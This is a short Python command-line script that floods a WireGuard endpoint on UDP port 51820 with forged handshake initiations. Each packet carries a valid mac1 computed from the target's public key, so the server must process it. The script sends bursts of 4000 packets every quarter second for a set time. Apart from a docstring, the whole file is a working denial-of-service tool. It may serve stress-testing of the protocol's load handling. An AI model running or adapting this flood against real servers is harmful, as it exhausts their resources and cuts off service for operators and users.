# SPDX-License-Identifier: BSD-3-Clause
"""`flood ADDRESS KEY SECONDS`: handshake initiations for the owner of that public key, bursts of 4000 a quarter of a
second apart. mac1 is right, so that each has to be opened; nothing else is. Prints how many were sent."""

import base64
import hashlib
import random
import socket
import struct
import sys
import time

BURST = 4000
PAUSE = 0.25


def initiation(noise, key):
    message = struct.pack("<I", 1) + noise.randbytes(112)
    mac1_key = hashlib.blake2s(b"mac1----" + key).digest()
    return message + hashlib.blake2s(message, key=mac1_key, digest_size=16).digest() + bytes(16)


def main():
    address, key, seconds = sys.argv[1], base64.b64decode(sys.argv[2]), float(sys.argv[3])
    noise = random.Random(20)
    messages = [initiation(noise, key) for _ in range(64)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((address, 51820))
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end:
        for number in range(BURST):
            try:
                sock.send(messages[number % len(messages)])
                sent += 1
            except OSError:
                pass  # no buffer just now
        time.sleep(PAUSE)
    print(sent)


main()
